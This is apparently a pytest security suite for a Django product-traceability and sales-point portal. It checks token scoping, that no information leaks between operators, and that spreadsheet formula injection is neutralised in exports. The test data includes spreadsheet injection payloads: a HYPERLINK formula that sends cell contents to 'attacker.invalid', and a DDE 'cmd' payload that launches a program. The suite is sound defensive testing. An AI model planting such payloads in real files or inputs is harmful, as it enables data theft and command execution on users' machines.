"""Security suite, issue #12 — partners: a sales point's till or a producer reads and writes only what passed
through it, an operator cannot learn which other points exist, a point reports only what it offers, and no
spreadsheet we hand out runs a formula someone else typed.

Each test replays the attack against the entry point as it was (``/trace/epcis/…``, the portal pages, the
sales upload and API, the scan URL, the exports) and asserts that it is refused — next to an allowed request
of the same kind, so that a test that refuses everything would fail.
"""

import csv
import datetime
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils import timezone

from catalog.models import Commune, Producer, Product, ProductGroup
from catalog.querysets import local_today
from integrations.models import Assortment, SalesReport
from integrations.salespoints import services as point_services
from ocop.spreadsheets import csv_bytes
from traceability import capture_tokens
from traceability import services as trace_services
from traceability.epcis import producer_location, sales_point_location
from traceability.identifiers import uri_of
from traceability.models import CaptureToken, EpcisEvent, ScanEvent

ROOT = Path(__file__).resolve().parents[2]
AIRPORT, BUON_DON = sales_point_location("bmt-airport"), sales_point_location("buon-don")
NEVER_ISSUED = "ZZZZZZZZZZZZZZZZ"


# --- EPCIS: a capture token acts for one party --------------------------------------------------------------


def event(items, step, location, **extra):
    at = timezone.localtime(timezone.now() + datetime.timedelta(minutes=extra.pop("minutes", 1)))
    epcs = [item if isinstance(item, str) else uri_of(item) for item in items]
    return {
        "type": "ObjectEvent",
        "eventTime": at.isoformat(),
        "eventTimeZoneOffset": "+07:00",
        "epcList": epcs,
        "action": "OBSERVE",
        "bizStep": step,
        "bizLocation": {"id": location},
        **extra,
    }


def capture(client, key, *events):
    return client.post(
        "/trace/epcis/capture",
        data=json.dumps({"type": "EPCISDocument", "epcisBody": {"eventList": list(events)}}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )


def query(client, key, **params):
    return client.get("/trace/epcis/events", params, HTTP_AUTHORIZATION=f"Bearer {key}")


def listed_serials(document: dict) -> set[str]:
    return {uri.rsplit("/", 1)[-1].split("?")[0] for e in document["epcisBody"]["eventList"] for uri in e["epcList"]}


@pytest.fixture
def chain(client, certified_product, other_product, lot, issue, office_user, airport_point, buon_don_point):
    """A lot of five coffee items: two shipped to the airport point, two to Buôn Đôn, one kept; a honey lot of
    another producer that went nowhere; a token for the coffee producer and one for each point's till."""
    items = issue(lot, 5)
    honey_lot = trace_services.create_lot(
        product=other_product, number="MO-1", produced_on=datetime.date(2026, 9, 1), quantity=5, actor=office_user
    )
    [honey] = issue(honey_lot, 1)
    keys = {
        "producer": capture_tokens.issue(name="HTX Cà phê", producer=certified_product.producer, actor=None)[1],
        "airport": capture_tokens.issue(name="Quầy sân bay", sales_point_id=airport_point.pk, actor=None)[1],
        "buon_don": capture_tokens.issue(name="Quầy Buôn Đôn", sales_point_id=buon_don_point.pk, actor=None)[1],
    }
    here = producer_location(certified_product.producer_id)
    for point, shipped in ((AIRPORT, items[:2]), (BUON_DON, items[2:4])):
        response = capture(
            client,
            keys["producer"],
            event(shipped, "shipping", here, destinationList=[{"type": "location", "destination": point}]),
        )
        assert response.status_code == 201, response.content
    return {"items": items, "lot": lot, "honey": honey, "keys": keys, "here": here}


def test_a_till_reads_no_event_of_a_lot_or_item_that_never_passed_through_its_point(client, chain):
    key, items, honey = chain["keys"]["airport"], chain["items"], chain["honey"]

    assert query(client, key, item=items[0].serial).status_code == 200  # its own: allowed
    no_lot, no_item = query(client, key, lot=999_999), query(client, key, item=NEVER_ISSUED)
    for other_lot in (honey.lot_id,):
        response = query(client, key, lot=other_lot)
        assert (response.status_code, response.json()) == (404, no_lot.json())  # as if it did not exist
    for serial in (honey.serial, items[2].serial, items[4].serial):  # another producer's, Buôn Đôn's, kept
        response = query(client, key, item=serial)
        assert (response.status_code, response.json()) == (404, no_item.json())
    assert no_lot.status_code == no_item.status_code == 404


def test_a_till_never_reads_the_lots_other_serials_in_epc_lists(client, chain):
    key, items = chain["keys"]["airport"], chain["items"]
    mine = {items[0].serial, items[1].serial}

    by_lot = query(client, key, lot=chain["lot"].pk)
    by_item = query(client, key, item=uri_of(items[0]))

    for response in (by_lot, by_item):
        assert response.status_code == 200
        document = response.json()
        steps = [e["bizStep"] for e in document["epcisBody"]["eventList"]]
        assert steps == ["commissioning", "shipping"]  # the commissioning of five, the shipment to Buôn Đôn hidden
        assert listed_serials(document) == mine
        assert not any(item.serial in response.content.decode() for item in items[2:])
    # the producer still reads its whole lot (its own items)
    assert len(listed_serials(query(client, chain["keys"]["producer"], lot=chain["lot"].pk).json())) == 5


def test_a_till_records_no_event_for_an_item_of_another_producer_or_that_never_passed_through_it(
    client, chain, airport_point, other_product, certify
):
    key, items, honey = chain["keys"]["airport"], chain["items"], chain["honey"]
    never = capture(client, key, event([f"https://x.vn/q/{NEVER_ISSUED}"], "receiving", AIRPORT))
    refused = {
        "another producer's item, not offered here": event([honey], "receiving", AIRPORT),
        "sold here but never here": event([items[4]], "retail_selling", AIRPORT),
        "shipped on, though it went to Buôn Đôn": event([items[2]], "shipping", AIRPORT),
    }
    before = EpcisEvent.objects.count()

    for attempt, body in refused.items():
        response = capture(client, key, body)
        [error] = response.json()["errors"]
        assert (response.status_code, error["code"]) == (400, "unknown_epc"), attempt
        # the same answer as for a serial never issued: the till learns nothing of other items
        assert error["message"].replace(body["epcList"][0].rsplit("/", 1)[-1].split("?")[0], "S") == never.json()[
            "errors"
        ][0]["message"].replace(NEVER_ISSUED, "S")
    assert EpcisEvent.objects.count() == before

    # What a till may do: receive and sell what was shipped to it, and a product of its assortment.
    assert capture(client, key, event(items[:2], "receiving", AIRPORT)).status_code == 201
    assert capture(client, key, event([items[0]], "retail_selling", AIRPORT, minutes=2)).status_code == 201
    certify(other_product)
    Assortment.objects.create(point=airport_point, product=other_product)
    assert capture(client, key, event([honey], "receiving", AIRPORT)).status_code == 201


def test_a_token_records_only_at_its_own_place_and_never_commissions(client, chain):
    key, items = chain["keys"]["airport"], chain["items"]
    attempts = [
        (event([items[0]], "receiving", BUON_DON), "bizLocation"),  # in another point's name
        (event([items[0]], "receiving", AIRPORT, readPoint={"id": BUON_DON}), "bizLocation"),
        (event([items[0]], "commissioning", AIRPORT), "bizStep"),
        (
            event([items[0]], "receiving", AIRPORT, destinationList=[{"type": "location", "destination": BUON_DON}]),
            "destinationList",
        ),
    ]
    before = EpcisEvent.objects.count()

    for body, field in attempts:
        response = capture(client, key, body)
        assert response.status_code == 403
        assert {(e["field"], e["code"]) for e in response.json()["errors"]} == {(field, "forbidden")}
    producer = capture(client, chain["keys"]["producer"], event([chain["honey"]], "shipping", chain["here"]))
    assert (producer.status_code, producer.json()["errors"][0]["code"]) == (400, "unknown_epc")  # not its item
    assert EpcisEvent.objects.count() == before


def test_a_token_is_bound_to_one_party_stored_hashed_and_revocable(client, chain, buon_don_point, office_user):
    key = chain["keys"]["airport"]
    token = CaptureToken.objects.get(key_hash=CaptureToken.hash(key))

    assert not CaptureToken.objects.filter(key_hash=key).exists()  # only the hash is kept
    with pytest.raises(IntegrityError), transaction.atomic():  # bound to nobody
        CaptureToken.objects.create(name="loose", key_hash=CaptureToken.hash("loose"))
    with pytest.raises(IntegrityError), transaction.atomic():  # bound to two
        CaptureToken.objects.create(
            name="both",
            key_hash=CaptureToken.hash("both"),
            producer=chain["lot"].product.producer,
            sales_point_id=buon_don_point.pk,
        )
    capture_tokens.revoke(token=token, actor=office_user)
    point_services.change_status(point=buon_don_point, to_status="suspended", reason="Kiểm tra", actor=office_user)

    assert query(client, key, item=chain["items"][0].serial).status_code == 403
    assert query(client, chain["keys"]["buon_don"], item=chain["items"][2].serial).status_code == 403


# --- Sales-point portal: other points do not exist ------------------------------------------------------------


HEADER = ["Mã điểm bán", "Mã sản phẩm", "Tháng", "Số lượng bán", "Doanh thu (VNĐ)", "Tồn cuối tháng"]


def last_month() -> str:
    return f"{(local_today().replace(day=1) - datetime.timedelta(days=1)):%Y-%m}"


def upload(client, rows):
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    return client.post(
        reverse("integrations:report_upload"),
        {"file": SimpleUploadedFile("bao-cao.csv", buffer.getvalue().encode(), content_type="text/csv")},
    )


@pytest.fixture
def operator(make_operator, operator_org, airport_point, certified_product):
    airport_point.assortment.create(product=certified_product)
    return make_operator("airport-operator", operator_org)


def test_an_upload_answers_alike_for_no_such_point_code_and_another_operators_point(
    client, operator, certified_product, buon_don_point, airport_point
):
    client.force_login(operator)
    answers = {}

    for code in ("buon-don", "no-such-point"):
        response = upload(client, [[code, certified_product.pk, last_month(), 1, 1, 1]])
        [issue] = response.context["issues"]
        answers[code] = (
            response.status_code,
            issue.column,
            issue.text_vi.replace(code, "C"),
            issue.text_en.replace(code, "C"),
        )
    api = {}
    for code in ("buon-don", "no-such-point"):
        response = client.post(
            reverse("integrations:sales_point_report_api"),
            {
                "lines": [
                    {
                        "point": code,
                        "product": certified_product.pk,
                        "month": last_month(),
                        "quantity_sold": 1,
                        "revenue": 1,
                        "closing_stock": 1,
                    }
                ]
            },
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {airport_point.raw_token}",
        )
        api[code] = (response.status_code, response.content.decode().replace(code, "C"))

    assert answers["buon-don"] == answers["no-such-point"] and answers["buon-don"][0] == 400
    assert api["buon-don"] == api["no-such-point"] and api["buon-don"][0] == 400
    assert not SalesReport.objects.exists()


@pytest.mark.parametrize(
    ("name", "method", "with_product"),
    [
        ("integrations:point_detail", "get", False),
        ("integrations:report_form", "get", False),
        ("integrations:report_form", "post", False),
        ("integrations:sales_point_labels", "get", False),
        ("integrations:point_status", "post", False),
        ("integrations:assortment_add", "post", False),
        ("integrations:assortment_remove", "post", True),
    ],
)
def test_portal_pages_answer_alike_for_no_such_point_and_another_operators_point(
    client, operator, buon_don_point, certified_product, name, method, with_product
):
    client.force_login(operator)
    missing = buon_don_point.pk + 1000
    answers = []

    for pk in (buon_don_point.pk, missing):
        args = [pk, certified_product.pk] if with_product else [pk]
        response = getattr(client, method)(
            reverse(name, args=args),
            {
                "product": certified_product.pk,
                "month": last_month(),
                "quantity_sold": 1,
                "revenue": 1,
                "closing_stock": 1,
                "to_status": "closed",
                "reason": "x",
            }
            if method == "post"
            else None,
        )
        page = response.content.decode().replace(f"/{pk}/", "/N/")
        # the error page's language switch carries a CSRF token, masked anew on every page: not a difference
        answers.append((response.status_code, re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", page)))

    assert answers[0] == answers[1] and answers[0][0] in (403, 404)
    assert buon_don_point.name not in answers[0][1]


def test_a_sales_report_line_for_a_product_outside_the_points_assortment_is_refused(
    client, operator, airport_point, certified_product, other_product, certify, office_user
):
    certify(other_product)  # certified, on sale elsewhere, never offered at the airport
    client.force_login(operator)

    response = upload(
        client,
        [
            ["bmt-airport", certified_product.pk, last_month(), 3, 450000, 9],
            ["bmt-airport", other_product.pk, last_month(), 2, 500000, 1],
        ],
    )

    assert response.status_code == 400 and not SalesReport.objects.exists()  # all or nothing
    [issue] = response.context["issues"]
    assert (issue.row, issue.column) == (3, "product")
    assert "not in the assortment" in issue.text_en and "không có trong danh mục" in issue.text_vi
    api = client.post(
        reverse("integrations:sales_point_report_api"),
        {
            "lines": [
                {
                    "product": other_product.pk,
                    "month": last_month(),
                    "quantity_sold": 1,
                    "revenue": 1,
                    "closing_stock": 1,
                }
            ]
        },
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {airport_point.raw_token}",
    )
    assert api.status_code == 400 and api.json()["errors"][0]["column"] == "product"
    # a product taken out of the assortment since: last month's sales can still be reported
    point_services.remove_product(point=airport_point, product=certified_product, actor=office_user)
    late = upload(client, [["bmt-airport", certified_product.pk, last_month(), 3, 450000, 9]])
    assert late.status_code == 200 and SalesReport.objects.count() == 1


# --- The scan URL's ?sp= ----------------------------------------------------------------------------------


def test_an_unknown_sp_on_a_scan_url_is_not_recorded_as_a_point(client, item, sales_point, scan_queue):
    for sp in ("no-such-point", '=HYPERLINK("http://attacker.invalid","x")', "BMT-AIRPORT"):
        client.get(f"/q/{item.serial}?sp={quote(sp)}")

    trace_services.ingest_scans()

    assert sorted(ScanEvent.objects.values_list("sales_point_code", flat=True)) == ["", "", "bmt-airport"]


# --- Spreadsheets: a formula-like text is a text cell --------------------------------------------------------


PAYLOADS = ['=HYPERLINK("http://attacker.invalid/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(1+1)"]


def assert_text_cells(content: bytes, payloads=PAYLOADS):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for payload in payloads:
        found = [cell for cell in cells if cell.value == payload]
        assert found, payload
        assert {(cell.data_type, cell.quotePrefix) for cell in found} == {("s", True)}, payload


def test_the_producer_dashboard_export_writes_product_names_and_scanned_sp_values_as_text(
    client, producer_user, producer, coffee_group, item
):
    for name in PAYLOADS:
        Product.objects.create(producer=producer, name_vi=name, group=coffee_group)
    # a scan recorded before ?sp= was checked
    ScanEvent.objects.create(
        item=item, serial=item.serial, scanned_at=timezone.now(), sales_point_code="=cmd|' /C calc'!A0"
    )
    client.force_login(producer_user)

    response = client.get(reverse("producer_portal:home"), {"format": "xlsx", "year": local_today().year})

    assert_text_cells(response.content, [*PAYLOADS, "=cmd|' /C calc'!A0"])


def test_the_department_dashboard_export_writes_product_names_as_text(
    client, department_user, airport_point, coffee_group, producer
):
    first = local_today().replace(day=1)
    for name in PAYLOADS:
        product = Product.objects.create(producer=producer, name_vi=name, group=coffee_group)
        SalesReport.objects.create(
            point=airport_point, product=product, month=first, quantity_sold=1, revenue=Decimal(1), closing_stock=1
        )
    client.force_login(department_user)

    response = client.get(reverse("integrations:department_dashboard"), {"format": "xlsx", "year": first.year})

    assert_text_cells(response.content)


def test_the_ocop_dashboard_export_writes_commune_names_as_text(client, office_user, certify, coffee_group):
    for n, name in enumerate(PAYLOADS):
        commune = Commune.objects.create(name=name, province="Đắk Lắk")
        producer = Producer.objects.create(
            kind=Producer.Kind.HOUSEHOLD, name=f"Hộ {n}", commune=commune, registration_number=f"40A80000{n}"
        )
        certify(Product.objects.create(producer=producer, name_vi=f"Sản phẩm {n}", group=coffee_group))
    client.force_login(office_user)

    response = client.get(reverse("integrations:ocop_dashboard"), {"format": "xlsx"})

    assert_text_cells(response.content)


def test_the_registry_template_writes_group_names_as_text(client, office_user):
    for code, name in zip(("1", "2", "3", "4"), PAYLOADS, strict=True):
        ProductGroup.objects.filter(code=code).update(name_vi=name)
    client.force_login(office_user)

    assert_text_cells(client.get(reverse("catalog:import_template_xlsx")).content)


def test_a_csv_we_write_quotes_formula_like_values_and_leaves_numbers_alone():
    rows = list(
        csv.reader(io.StringIO(csv_bytes([["name", "count"], *[[p, -5] for p in PAYLOADS]]).decode("utf-8-sig")))
    )

    assert rows[1:] == [[f"'{payload}", "-5"] for payload in PAYLOADS]


#: The only modules that may write CSV or XLSX themselves: the shared writer, and the Meta feed (a feed, not a
#: spreadsheet: its reader is Meta's crawler, which wants the values as they are).
CSV_WRITERS = {"ocop/spreadsheets/writing.py", "integrations/feeds/documents.py"}


def test_every_csv_and_xlsx_file_is_written_through_the_shared_writer():
    sources = [
        path
        for package in ("catalog", "traceability", "storefront", "integrations", "ocop")
        for path in (ROOT / package).rglob("*.py")
        if "tests" not in path.parts
    ]
    csv_writers, sheet_writers = set(), set()
    for path in sources:
        text, name = path.read_text(encoding="utf-8"), path.relative_to(ROOT).as_posix()
        if re.search(r"csv\.(writer|DictWriter)\(|\.writerows?\(", text):
            csv_writers.add(name)
        if re.search(r"\bWorkbook\(\)", text):
            sheet_writers.add(name)
            assert "append_row(" in text and "xlsx_bytes(" in text and not re.search(r"book\.save\(", text), name
            assert not re.search(r"\.cell\([^)]*value=|\.value\s*=", text), name

    assert csv_writers == CSV_WRITERS
    assert sheet_writers == {
        "catalog/importing/template.py",
        "integrations/dashboards/exports.py",
        "catalog/register/export.py",
    }
